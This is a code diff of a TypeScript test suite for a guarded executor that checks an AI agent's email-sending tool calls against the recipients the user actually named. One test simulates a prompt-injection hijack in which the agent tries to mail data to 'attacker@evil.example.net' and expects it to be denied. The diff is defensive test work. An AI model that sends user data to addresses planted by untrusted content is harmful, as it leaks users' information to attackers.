@@ -35,6 +35,15 @@ function fakeRegistry(log: string[]) {
     },
     sideEffect: "external",
     targetArguments: ["to"],
+    // Bob is the user's contact: "Bob" names his address.
+    targets: (input) => [
+      {
+        kind: "recipient",
+        argument: "to",
+        value: input.to,
+        names: input.to === "bob@example.com" ? [input.to, "Bob"] : [input.to],
+      },
+    ],
     intentWords: ["send"],
     preconditions: (input) =>
       input.to.endsWith("@blocked.example")
@@ -290,12 +299,57 @@ describe("createGuardedExecutor", () => {
       arguments: { to: "attacker@evil.example.net", body: "x" },
     });
     assert.equal(!hijacked.ok && hijacked.error.type, "denied");
-    assert.match(!hijacked.ok ? hijacked.error.message : "", /'to' came from untrusted content/);
+    assert.match(
+      !hijacked.ok ? hijacked.error.message : "",
+      /did not name the recipient attacker@evil\.example\.net \(argument 'to'\)/,
+    );
     const asked = await executor.execute({
       name: "mail_send",
       arguments: { to: "bob@example.com", body: "summary" },
     });
     assert.equal(asked.ok, true);
+    // An address no untrusted text holds (it was encoded there) is still not one the user named.
+    const unseen = await executor.execute({
+      name: "mail_send",
+      arguments: { to: "carol@elsewhere.example", body: "summary" },
+    });
+    assert.equal(!unseen.ok && unseen.error.type, "denied");
+  });
+
+  it("puts the targets in the request; without a targets hook, target arguments must be named as written", async () => {
+    const log: string[] = [];
+    const registry: ToolRegistry = fakeRegistry(log);
+    const plain = { ...registry.get("mail_send")! } as Tool<Record<string, unknown>>;
+    delete plain.targets;
+    plain.definition = { ...plain.definition, name: "plain_send" };
+    registry.register(plain);
+    const requests: ConfirmationRequest[] = [];
+    const executor = createGuardedExecutor({
+      registry,
+      policy: "approve-if-user-asked",
+      userMessages: ["send bob@example.com a note, and send Bob another"],
+    });
+    const watcher = createGuardedExecutor({
+      registry,
+      confirm: async (request) => {
+        requests.push(request);
+        return false;
+      },
+    });
+    await watcher.execute({ name: "mail_send", arguments: { to: "bob@example.com", body: "a" } });
+    assert.deepEqual(requests[0]?.targets, [
+      { kind: "recipient", argument: "to", value: "bob@example.com", names: ["bob@example.com", "Bob"] },
+    ]);
+    assert.match(requests[0]?.summary ?? "", /It acts on: recipient bob@example\.com\./);
+    assert.equal(
+      (await executor.execute({ name: "plain_send", arguments: { to: "bob@example.com", body: "a" } })).ok,
+      true,
+    );
+    const other = await executor.execute({
+      name: "plain_send",
+      arguments: { to: "eve@example.com", body: "a" },
+    });
+    assert.match(!other.ok ? other.error.message : "", /did not name the argument eve@example\.com/);
   });
 
   it("maps ToolError types, times out slow tools, and caps big outputs", async () => {
